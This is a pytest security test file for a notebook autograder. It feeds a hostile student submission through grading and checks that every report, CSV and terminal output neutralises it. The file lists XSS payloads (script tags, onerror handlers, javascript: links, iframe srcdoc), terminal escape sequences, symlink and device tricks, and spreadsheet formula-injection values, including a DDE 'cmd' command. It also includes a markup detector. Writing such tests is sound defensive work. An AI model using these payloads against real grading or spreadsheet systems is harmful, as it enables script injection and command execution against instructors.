"""One learner cannot stop, blind or fool the instructor: a small class graded end to end beside an attacker.

`course-grade run` on 01_envelope (module fixture: ~45 s on 2 cores) with three learners and two entries that
are not learners: `honest` (the instructor's solution: full marks); `mallory` (the learners' version with
markdown that tries to run script on the instructor's page or hide the grading notes, a raw HTML cell, and
beside it stray notebooks: one whose name is not UTF-8, one named with terminal control sequences, a link to
honest's, one nested too deep for Python's JSON reader, one naming a device); a learner whose id is itself
markup and whose notebook is a link to honest's; beside them a folder named as a spreadsheet formula and one
holding a bidi override, refused at intake. The roster gives mallory formula names. Every output an
instructor or another learner sees is then read: report.html, the similarity page, the feedback pages,
grades.csv, per_question.csv, canvas.csv, moodle.csv, the run's terminal output and summary; the browser
test opens each kind of page in Chromium (~10 s) and finds nothing ran.
"""

from __future__ import annotations

import csv
import html.parser
import json
import os
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from course_grade.notebooks import node as nbnode
from course_grade.notebooks import read, write
from tests.support.grading_helpers import Run, course_grade, fresh_course

if TYPE_CHECKING:
    from tests.support.browser import Browser

ASSIGNMENT = "01_envelope"
ROOT = Path(__file__).resolve().parents[2]
SOURCE = ROOT / "grading" / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
LEARNERS = ROOT / "notebooks" / f"{ASSIGNMENT}.ipynb"

MARKUP_ID = "<img src=x onerror=window.__pwned='id'>"
"""A learner whose student id is markup (a valid folder name: no slash)."""

PAYLOADS = [
    "<script>document.title='pwned'; window.__pwned='script'</script>",
    "<img src=x onerror=\"document.title='pwned'; window.__pwned='img'\">",
    "[click me](javascript:window.__pwned='link')",
    "<a id='js-link' href=\"javascript:window.__pwned='anchor'\">open the grading notes</a>",
    "<svg onload=\"window.__pwned='svg'\"><circle r='5'/></svg>",
    "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
    "<form action='javascript:window.__pwned=1'><button id='js-button'>go</button></form>",
    "<meta http-equiv='refresh' content='0;url=javascript:window.__pwned=1'>",
    "<style>.grading-notes { display: none !important }</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>all fine</div>",
]
"""Markdown a learner writes to run script in the instructor's browser, or hide the grading notes."""

RAW_HTML = "<script>window.__pwned='raw'</script><b>raw</b>"

TERMINAL_NAME = "\x1b[1A\x1b[2Kall fine"
"""A stray notebook's name: moves the cursor up and erases the line above (a "POSSIBLE TAMPERING" line)."""

REFUSED = {"=2+3": "formula", "\u202egnp.exe": "format"}
"""Folders that cannot be a learner's id, and a word of the reason they are skipped with."""


@dataclass(frozen=True)
class Graded:
    run: Run
    folder: Path
    """Where the run wrote grades.csv and the report."""


def _mallory(folder: Path) -> None:
    notebook = read(LEARNERS)
    notebook.cells.insert(1, nbnode(cell_type="markdown", metadata={}, source="\n\n".join(PAYLOADS)))
    notebook.cells.insert(2, nbnode(cell_type="raw", metadata={"raw_mimetype": "text/html"}, source=RAW_HTML))
    write(notebook, folder / f"{ASSIGNMENT}.ipynb")
    (folder / f"{TERMINAL_NAME}.ipynb").write_text(json.dumps({"cells": []}))
    os.symlink(f"../../honest/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", folder / "zz-link.ipynb")
    os.symlink("/dev/zero", folder / "zz-device.ipynb")
    deep = '{"cells": [{"cell_type": "code", "metadata": {"nbgrader": {"solution": true}}, "source": '
    (folder / "zz-deep.ipynb").write_text(deep + "[" * 100_000 + "]" * 100_000 + "}]}")
    (folder / os.fsdecode(b"stray-\xff.ipynb")).write_text("a notebook whose name is not UTF-8")


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Graded:
    root = tmp_path_factory.mktemp("hostile-outputs")
    course = fresh_course(root)
    submissions = root / "submissions"
    for student in ("honest", "mallory", MARKUP_ID, *REFUSED):
        (submissions / student / ASSIGNMENT).mkdir(parents=True)
    write(read(SOURCE), submissions / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    linked = (
        submissions / MARKUP_ID / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    )  # graded 0, never read by the review
    os.symlink(f"../../honest/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", linked)
    for student in REFUSED:
        write(read(SOURCE), submissions / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    _mallory(submissions / "mallory" / ASSIGNMENT)
    roster = root / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student_id", "name", "first_name", "last_name", "email", "id_number", "section"])
        writer.writerow(["honest", "Lee, Ann", "Ann", "Lee", "ann@example.org", "N1", "A"])
        writer.writerow(["mallory", '=HYPERLINK("http://x.example/?"&A2,"Ann")', "+1+1", "@SUM(A1)",
                         "-2+3@x", "\t=1+1", "=cmd|' /C calc'!A0"])  # fmt: skip
    out = root / "out"
    out.mkdir()
    run = course_grade(
        course, "run", str(submissions), ASSIGNMENT, "--jobs", "2", "--timeout", "30",
        "--to", str(out / "grades.csv"), "--roster", str(roster),
    )  # fmt: skip
    return Graded(run, out)


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _printable(text: str) -> list[str]:
    """The characters of `text` a terminal or a reader would not show as they are (newlines allowed)."""
    return [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


GROUP = pytest.mark.xdist_group("hostile_outputs")


@GROUP
@pytest.mark.timeout(900)
def test_the_class_is_graded_whatever_one_learner_submits(graded: Graded) -> None:
    assert graded.run.returncode == 0, graded.run.stdout[-3000:] + graded.run.stderr[-3000:]
    grades = {row["student_id"]: row for row in _rows(graded.folder / "grades.csv")}
    assert set(grades) == {"honest", "mallory", MARKUP_ID}
    assert float(grades["honest"]["score"]) == float(grades["honest"]["max_score"]) > 0


@GROUP
@pytest.mark.timeout(900)
def test_the_honest_review_column_names_no_attacker(graded: Graded) -> None:
    grades = {row["student_id"]: row for row in _rows(graded.folder / "grades.csv")}
    review = grades["honest"]["review"]
    assert "mallory" not in review and "<img" not in review, review


@GROUP
@pytest.mark.timeout(900)
def test_the_review_reads_only_what_grading_read(graded: Graded) -> None:
    grades = {row["student_id"]: row for row in _rows(graded.folder / "grades.csv")}
    assert "honest" not in grades["mallory"]["review"] and "zz-" not in grades["mallory"]["review"]
    linked = grades[MARKUP_ID]["review"]
    assert f"{ASSIGNMENT}.ipynb left out of the similarity review: it is a symbolic link" in linked, linked
    assert "honest" not in linked


@GROUP
@pytest.mark.timeout(900)
def test_ids_that_cannot_be_a_learners_are_skipped_with_the_reason(graded: Graded) -> None:
    assert "=2+3: starts with '='" in graded.run.stdout
    assert "\\u202egnp.exe: contains control or format characters (U+202E" in graded.run.stdout


@GROUP
@pytest.mark.timeout(900)
def test_no_csv_cell_is_a_formula(graded: Graded) -> None:
    for name in ("grades.csv", "per_question.csv", "canvas.csv", "moodle.csv"):
        with open(graded.folder / name, newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        formulas = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _number(c)]
        assert formulas == [], (name, formulas)


class Markup(html.parser.HTMLParser):
    """The elements and attributes of a page that could run script or load a frame (escaped text is text)."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        refresh = tag == "meta" and ("http-equiv", "refresh") in attrs
        if tag in ("script", "iframe", "object", "embed", "form", "base") or refresh:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            link = "".join(str(value or "").split()).lower()
            if name.startswith("on") or link.startswith(("javascript:", "vbscript:")) or name == "srcdoc":
                self.bad.append(f"<{tag} {name}={value!r}>")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@GROUP
@pytest.mark.timeout(900)
def test_the_terminal_shows_only_printable_text(graded: Graded) -> None:
    assert _printable(graded.run.stdout) == [] and _printable(graded.run.stderr) == []
    assert "\\x1b[1A\\x1b[2Kall fine.ipynb" in graded.run.stdout


def _pages(graded: Graded) -> dict[str, Path]:
    course = graded.run.course
    return {
        "report": graded.folder / "report.html",
        "similarity": course / "similarity" / f"{ASSIGNMENT}.html",
        "feedback": course / "feedback" / "mallory" / ASSIGNMENT / f"{ASSIGNMENT}.html",
        "feedback-honest": course / "feedback" / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.html",
    }


@GROUP
@pytest.mark.timeout(900)
def test_every_page_forbids_script_and_holds_no_learner_markup(graded: Graded) -> None:
    for kind, path in _pages(graded).items():
        page = path.read_text(encoding="utf-8")
        assert "Content-Security-Policy" in page and "script-src 'none'" in page, kind
        found = Markup()
        found.feed(page)
        assert found.bad == [], (kind, found.bad)
    feedback = _pages(graded)["feedback"].read_text(encoding="utf-8")
    assert "click me" in feedback and "open the grading notes" in feedback  # the text stays, the markup goes


@GROUP
@pytest.mark.timeout(900)
def test_the_feedback_of_a_learner_with_a_stray_non_utf8_file_is_written(graded: Graded) -> None:
    page = _pages(graded)["feedback"].read_text(encoding="utf-8")
    assert (
        "Grading notes" in page and "stray-\\udcff.ipynb" in page and "\\x1b[1A\\x1b[2Kall fine.ipynb" in page
    )


@GROUP
@pytest.mark.timeout(900)
def test_nothing_a_learner_wrote_runs_in_the_instructors_browser(graded: Graded, browser: Browser) -> None:
    browser.allow(
        'violates the following Content Security Policy directive: "img-src data:"',
        "the policy refusing a request is the point: the learner's image (the img payload)",
    )
    for kind, path in _pages(graded).items():
        browser.page.goto(path.as_uri())
        browser.page.wait_for_load_state("load")
        browser.page.wait_for_timeout(300)
        for selector in ("#js-link", "text=click me", "#js-button"):
            if browser.page.locator(selector).count():
                browser.page.locator(selector).first.click(timeout=2000)
                browser.page.wait_for_timeout(200)
        browser.screenshot(kind)
        assert browser.page.evaluate("window.__pwned") is None, kind
        assert browser.page.title() != "pwned", kind
        assert browser.page.url == path.as_uri(), kind
        if kind.startswith("feedback"):
            assert browser.page.locator(".grading-notes").first.is_visible() or kind == "feedback-honest"
